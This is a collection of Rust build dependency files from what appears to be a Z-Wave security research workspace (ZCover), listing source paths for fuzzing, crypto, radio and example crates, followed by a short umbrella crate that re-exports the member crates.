/root/repo/target/release/deps/end_to_end-5927fb51eb6c97a0.d: tests/end_to_end.rs

/root/repo/target/release/deps/end_to_end-5927fb51eb6c97a0: tests/end_to_end.rs

tests/end_to_end.rs:

/root/repo/target/release/deps/table4-f27bd68faa84a1a9.d: crates/bench/src/bin/table4.rs

/root/repo/target/release/deps/table4-f27bd68faa84a1a9: crates/bench/src/bin/table4.rs

crates/bench/src/bin/table4.rs:

/root/repo/target/release/deps/zcover_suite-b763f95a727d1902.d: src/lib.rs

/root/repo/target/release/deps/zcover_suite-b763f95a727d1902: src/lib.rs

src/lib.rs:

/root/repo/target/release/deps/zcover_suite-77035dc3fd8c41f8.d: src/lib.rs

/root/repo/target/release/deps/libzcover_suite-77035dc3fd8c41f8.rlib: src/lib.rs

/root/repo/target/release/deps/libzcover_suite-77035dc3fd8c41f8.rmeta: src/lib.rs

src/lib.rs:

/root/repo/target/release/deps/kats-6601a7eed6e106f6.d: crates/zwave-crypto/tests/kats.rs

/root/repo/target/release/deps/kats-6601a7eed6e106f6: crates/zwave-crypto/tests/kats.rs

crates/zwave-crypto/tests/kats.rs:

/root/repo/target/release/deps/zwave_radio-9b04c9cc72a21267.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/release/deps/libzwave_radio-9b04c9cc72a21267.rlib: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/release/deps/libzwave_radio-9b04c9cc72a21267.rmeta: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:

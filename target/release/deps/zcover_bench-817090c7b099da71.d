/root/repo/target/release/deps/zcover_bench-817090c7b099da71.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/libzcover_bench-817090c7b099da71.rlib: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/libzcover_bench-817090c7b099da71.rmeta: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:

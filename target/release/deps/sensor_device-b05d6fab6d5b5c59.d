/root/repo/target/release/deps/sensor_device-b05d6fab6d5b5c59.d: tests/sensor_device.rs

/root/repo/target/release/deps/sensor_device-b05d6fab6d5b5c59: tests/sensor_device.rs

tests/sensor_device.rs:

/root/repo/target/release/deps/remediation-4d780a086b7c0f56.d: tests/remediation.rs

/root/repo/target/release/deps/remediation-4d780a086b7c0f56: tests/remediation.rs

tests/remediation.rs:

/root/repo/target/release/deps/table6-08ffaee3cff21d37.d: crates/bench/src/bin/table6.rs

/root/repo/target/release/deps/table6-08ffaee3cff21d37: crates/bench/src/bin/table6.rs

crates/bench/src/bin/table6.rs:

/root/repo/target/release/deps/zwave_crypto-ec9f663223f3f4ec.d: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

/root/repo/target/release/deps/zwave_crypto-ec9f663223f3f4ec: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

crates/zwave-crypto/src/lib.rs:
crates/zwave-crypto/src/aes.rs:
crates/zwave-crypto/src/ccm.rs:
crates/zwave-crypto/src/cmac.rs:
crates/zwave-crypto/src/curve25519.rs:
crates/zwave-crypto/src/inclusion.rs:
crates/zwave-crypto/src/kdf.rs:
crates/zwave-crypto/src/keys.rs:
crates/zwave-crypto/src/s0.rs:
crates/zwave-crypto/src/s2.rs:

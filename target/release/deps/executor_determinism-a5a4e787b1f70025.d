/root/repo/target/release/deps/executor_determinism-a5a4e787b1f70025.d: crates/core/tests/executor_determinism.rs

/root/repo/target/release/deps/executor_determinism-a5a4e787b1f70025: crates/core/tests/executor_determinism.rs

crates/core/tests/executor_determinism.rs:

/root/repo/target/release/deps/zcover-5a908f82f69fc4fb.d: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs

/root/repo/target/release/deps/libzcover-5a908f82f69fc4fb.rlib: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs

/root/repo/target/release/deps/libzcover-5a908f82f69fc4fb.rmeta: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs

crates/core/src/lib.rs:
crates/core/src/active.rs:
crates/core/src/buglog.rs:
crates/core/src/discovery.rs:
crates/core/src/dongle.rs:
crates/core/src/fuzzer.rs:
crates/core/src/minimize.rs:
crates/core/src/mutation.rs:
crates/core/src/passive.rs:
crates/core/src/report.rs:
crates/core/src/target.rs:
crates/core/src/trials.rs:

/root/repo/target/release/deps/figure12-64d9bb867e244d1e.d: crates/bench/src/bin/figure12.rs

/root/repo/target/release/deps/figure12-64d9bb867e244d1e: crates/bench/src/bin/figure12.rs

crates/bench/src/bin/figure12.rs:

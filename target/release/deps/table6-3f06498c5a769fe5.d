/root/repo/target/release/deps/table6-3f06498c5a769fe5.d: crates/bench/src/bin/table6.rs

/root/repo/target/release/deps/table6-3f06498c5a769fe5: crates/bench/src/bin/table6.rs

crates/bench/src/bin/table6.rs:

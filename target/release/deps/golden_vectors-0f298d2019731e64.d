/root/repo/target/release/deps/golden_vectors-0f298d2019731e64.d: crates/zwave-protocol/tests/golden_vectors.rs

/root/repo/target/release/deps/golden_vectors-0f298d2019731e64: crates/zwave-protocol/tests/golden_vectors.rs

crates/zwave-protocol/tests/golden_vectors.rs:

/root/repo/target/release/deps/table3-97c1429d9b48755c.d: crates/bench/src/bin/table3.rs

/root/repo/target/release/deps/table3-97c1429d9b48755c: crates/bench/src/bin/table3.rs

crates/bench/src/bin/table3.rs:

/root/repo/target/release/deps/table4-fb96372530f7c541.d: crates/bench/src/bin/table4.rs

/root/repo/target/release/deps/table4-fb96372530f7c541: crates/bench/src/bin/table4.rs

crates/bench/src/bin/table4.rs:

/root/repo/target/release/deps/table3-6a2fef6b6271ed6b.d: crates/bench/src/bin/table3.rs

/root/repo/target/release/deps/table3-6a2fef6b6271ed6b: crates/bench/src/bin/table3.rs

crates/bench/src/bin/table3.rs:

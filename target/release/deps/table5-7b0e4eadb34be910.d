/root/repo/target/release/deps/table5-7b0e4eadb34be910.d: crates/bench/src/bin/table5.rs

/root/repo/target/release/deps/table5-7b0e4eadb34be910: crates/bench/src/bin/table5.rs

crates/bench/src/bin/table5.rs:

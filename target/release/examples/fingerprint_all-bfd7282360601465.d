/root/repo/target/release/examples/fingerprint_all-bfd7282360601465.d: examples/fingerprint_all.rs

/root/repo/target/release/examples/fingerprint_all-bfd7282360601465: examples/fingerprint_all.rs

examples/fingerprint_all.rs:

/root/repo/target/release/examples/ablation-f666a38188749b29.d: examples/ablation.rs

/root/repo/target/release/examples/ablation-f666a38188749b29: examples/ablation.rs

examples/ablation.rs:

/root/repo/target/release/examples/s0_downgrade-0ede854c357d17ae.d: examples/s0_downgrade.rs

/root/repo/target/release/examples/s0_downgrade-0ede854c357d17ae: examples/s0_downgrade.rs

examples/s0_downgrade.rs:

/root/repo/target/release/examples/memory_tampering-8d7bcb98fcf33a44.d: examples/memory_tampering.rs

/root/repo/target/release/examples/memory_tampering-8d7bcb98fcf33a44: examples/memory_tampering.rs

examples/memory_tampering.rs:

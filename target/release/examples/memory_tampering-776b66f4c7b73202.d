/root/repo/target/release/examples/memory_tampering-776b66f4c7b73202.d: examples/memory_tampering.rs

/root/repo/target/release/examples/memory_tampering-776b66f4c7b73202: examples/memory_tampering.rs

examples/memory_tampering.rs:

/root/repo/target/release/examples/ablation-38bd79179db336ed.d: examples/ablation.rs

/root/repo/target/release/examples/ablation-38bd79179db336ed: examples/ablation.rs

examples/ablation.rs:

/root/repo/target/release/examples/quickstart-a9ccd41a9ad6ff73.d: examples/quickstart.rs

/root/repo/target/release/examples/quickstart-a9ccd41a9ad6ff73: examples/quickstart.rs

examples/quickstart.rs:

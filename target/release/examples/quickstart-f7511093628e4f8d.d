/root/repo/target/release/examples/quickstart-f7511093628e4f8d.d: examples/quickstart.rs

/root/repo/target/release/examples/quickstart-f7511093628e4f8d: examples/quickstart.rs

examples/quickstart.rs:

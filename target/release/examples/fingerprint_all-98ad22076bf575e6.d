/root/repo/target/release/examples/fingerprint_all-98ad22076bf575e6.d: examples/fingerprint_all.rs

/root/repo/target/release/examples/fingerprint_all-98ad22076bf575e6: examples/fingerprint_all.rs

examples/fingerprint_all.rs:

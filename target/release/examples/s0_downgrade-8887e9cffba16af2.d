/root/repo/target/release/examples/s0_downgrade-8887e9cffba16af2.d: examples/s0_downgrade.rs

/root/repo/target/release/examples/s0_downgrade-8887e9cffba16af2: examples/s0_downgrade.rs

examples/s0_downgrade.rs:

/root/repo/target/release/examples/ids_monitor-e36301a2d099f128.d: examples/ids_monitor.rs

/root/repo/target/release/examples/ids_monitor-e36301a2d099f128: examples/ids_monitor.rs

examples/ids_monitor.rs:

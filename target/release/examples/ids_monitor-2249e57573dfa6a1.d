/root/repo/target/release/examples/ids_monitor-2249e57573dfa6a1.d: examples/ids_monitor.rs

/root/repo/target/release/examples/ids_monitor-2249e57573dfa6a1: examples/ids_monitor.rs

examples/ids_monitor.rs:

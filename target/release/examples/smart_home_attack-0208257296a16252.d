/root/repo/target/release/examples/smart_home_attack-0208257296a16252.d: examples/smart_home_attack.rs

/root/repo/target/release/examples/smart_home_attack-0208257296a16252: examples/smart_home_attack.rs

examples/smart_home_attack.rs:

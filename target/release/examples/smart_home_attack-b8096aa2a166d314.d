/root/repo/target/release/examples/smart_home_attack-b8096aa2a166d314.d: examples/smart_home_attack.rs

/root/repo/target/release/examples/smart_home_attack-b8096aa2a166d314: examples/smart_home_attack.rs

examples/smart_home_attack.rs:

//! Umbrella crate for the ZCover reproduction workspace.
//!
//! This crate re-exports the member crates so that workspace-level examples
//! (`examples/`) and integration tests (`tests/`) can reach every subsystem
//! through one import. Library users should depend on the individual crates
//! directly ([`zcover`], [`zwave_controller`], ...).

pub use trace_format;
pub use vfuzz;
pub use zcover;
pub use zwave_controller;
pub use zwave_crypto;
pub use zwave_protocol;
pub use zwave_radio;
